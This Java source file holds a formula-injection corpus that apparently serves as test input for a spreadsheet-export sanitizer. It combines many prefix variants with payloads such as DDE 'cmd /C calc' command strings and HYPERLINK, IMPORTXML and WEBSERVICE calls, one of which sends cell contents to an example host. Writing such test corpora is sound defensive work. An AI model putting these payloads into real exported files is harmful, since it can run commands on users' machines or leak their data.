package dev.plumbline.exports.table;

import java.util.ArrayList;
import java.util.List;

/** Texts that some spreadsheet program runs, or ran, when they stand at the start of a cell. */
final class FormulaCorpus {

    private static final List<String> PAYLOADS = List.of(
            "1+1",
            "SUM(A1:A9)",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
            "IMPORTXML(\"http://example.org\",\"//a\")",
            "WEBSERVICE(\"http://example.org\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "2+3+cmd|'/C calc'!A0",
            "-1+A1");
    private static final List<String> SIGNS = List.of("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=");
    private static final List<String> BEFORE =
            List.of("", " ", "\u00A0", "\u200B", "'", "\"", "x;", "x,", "x\t", "x|", "x\n");

    private FormulaCorpus() {}

    static List<String> all() {
        List<String> texts = new ArrayList<>();
        for (String before : BEFORE) {
            for (String sign : SIGNS) {
                for (String payload : PAYLOADS) {
                    texts.add(before + sign + payload);
                }
            }
        }
        texts.addAll(List.of("\"=1+1\"", "\"\"=1", "';=1", "\",=1+1,\"", "=\"\";=2", "=1\r\n=2", "@", "=", "\t", "-"));
        return texts;
    }
}
